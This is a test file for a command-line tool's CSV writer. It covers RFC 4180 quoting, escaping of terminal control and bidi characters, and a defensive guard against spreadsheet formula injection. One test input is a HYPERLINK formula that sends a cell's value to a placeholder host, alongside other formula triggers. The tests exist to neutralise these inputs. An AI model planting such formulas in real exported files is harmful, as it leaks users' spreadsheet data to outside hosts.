/** CSV as RFC 4180 has it, field by field. */
import { describe, expect, it } from "vitest";
import { csvField, csvText, formatCsv } from "../../src/cli/output/csv.js";

describe("csvField", () => {
  it("leaves plain text alone and quotes a comma, a quote, CR or LF, doubling the quotes", () => {
    expect(csvField("mail.example.com")).toBe("mail.example.com");
    expect(csvField("a,b")).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField("a\r\nb")).toBe('"a\r\nb"');
    expect(csvField("")).toBe("");
  });

  it("escapes other control characters, and keeps tabs", () => {
    expect(csvField("a\u001b[2Jb\u009b\tc")).toBe("a\\u001b[2Jb\\u009b\tc");
  });

  it("shows CR and LF inside a field as \\r and \\n on a terminal, where a raw CR would overwrite the line", () => {
    expect(csvField("a\r\nb,c", { tty: true })).toBe('"a\\r\\nb,c"');
    expect(csvField("a\r\nb,c", { tty: false })).toBe('"a\r\nb,c"');
  });

  it("escapes bidi overrides and other format characters in a file too", () => {
    expect(csvField("a\u202eb\u200bc")).toBe("a\\u202eb\\u200bc");
  });
});

describe("formula guard (OWASP CSV injection)", () => {
  it("prefixes a ' to a cell a spreadsheet would run as a formula: = + - @, tab, CR and their full-width forms", () => {
    expect(csvField('=HYPERLINK("http://x.example/?"&A1,"click")')).toBe(`"'=HYPERLINK(""http://x.example/?""&A1,""click"")"`);
    expect(csvField("+cmd")).toBe("'+cmd");
    expect(csvField("-2+3")).toBe("'-2+3");
    expect(csvField("@SUM(A1)")).toBe("'@SUM(A1)");
    expect(csvField("\t=1")).toBe("'\t=1");
    expect(csvField("\r=1")).toBe(`"'\r=1"`);
    expect(csvField("\uff1d1+1")).toBe("'\uff1d1+1");
  });

  it("leaves numbers, whatever their sign, and text with a formula character inside it as they are", () => {
    for (const number of ["-5", "+1.5e3", "-0.25", "-.5", "3", "1E-7"]) expect(csvField(number)).toBe(number);
    expect(csvField("a=b")).toBe("a=b");
    expect(csvField("mail.example.com")).toBe("mail.example.com");
  });
});

describe("formatCsv", () => {
  it("ends every record with CRLF, lists and objects as JSON, empty for null", () => {
    expect(
      formatCsv([
        ["a", "b"],
        [1, null],
        [["x"], { k: true }],
      ]),
    ).toBe('a,b\r\n1,\r\n"[""x""]","{""k"":true}"\r\n');
    expect(csvText(Uint8Array.from([1, 2, 255]))).toBe("AQL/");
  });
});
